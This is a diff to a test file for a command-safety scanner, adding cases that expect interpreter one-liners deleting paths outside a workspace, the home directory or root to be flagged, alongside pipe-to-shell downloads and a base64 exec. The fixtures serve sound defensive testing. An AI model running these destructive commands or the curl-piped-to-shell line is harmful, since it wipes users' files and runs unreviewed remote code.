@@ -29,11 +29,19 @@ describe("code the analysis cannot see, and one-liners that delete", () => {
     ["echo 'Get-Date' | pwsh -Command -", "pipe-to-shell"],
     ["curl https://x/f | fish", "pipe-to-shell"],
     ["pwsh - <<'EOF'\nRemove-Item -Recurse ~\nEOF", "pipe-to-shell"],
-    [`python -c "import shutil; shutil.rmtree('x')"`, "interpreter-destructive"],
-    [`python3 -c "import os; os.remove('a')"`, "interpreter-destructive"],
-    [`node -e "require('fs').rmSync('d', {recursive: true})"`, "interpreter-destructive"],
-    [`ruby -e "FileUtils.rm_rf('x')"`, "interpreter-destructive"],
+    // Deletes outside the workspace (ADR 0330: inside it, a delete read precisely is judged as its rm).
+    [`python -c "import shutil; shutil.rmtree('/tmp/x')"`, "interpreter-destructive"],
+    [`python3 -c "import os; os.remove('../a')"`, "interpreter-destructive"],
+    [`node -e "require('fs').rmSync('/tmp/d', {recursive: true})"`, "interpreter-destructive"],
+    // The rm a delete amounts to meets the checks of rm (ADR 0330).
+    [`node -e "require('fs').rmSync('/srv/d', {recursive: true})"`, "destructive-outside-workspace"],
+    [`python3 -c "import shutil; shutil.rmtree('/')"`, "recursive-delete-root"],
+    [`ruby -e "FileUtils.rm_rf(Dir.home + '/x')"`, "destructive-outside-workspace"],
+    [`python3 -c "import os; os.remove(os.path.join(os.environ['HOME'], 'notes'))"`, "interpreter-destructive"],
+    // Deletes of a path the code computes, or of a glob, are not read: the scan's hard deny stands.
     [`perl -e "unlink glob('*')"`, "interpreter-destructive"],
+    [`python -c "import shutil,sys; shutil.rmtree(sys.argv[1])"`, "interpreter-destructive"],
+    [`python -c "import shutil; shutil.rmtree('build'); shutil.rmtree(d)"`, "interpreter-destructive"],
     [`python -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))"`, "interpreter-destructive"],
     [`python -c "import os; os.system('rm -rf /')"`, "recursive-delete-root"],
     [`node -e "require('child_process').execSync('rm -rf ~')"`, "recursive-delete-root"],
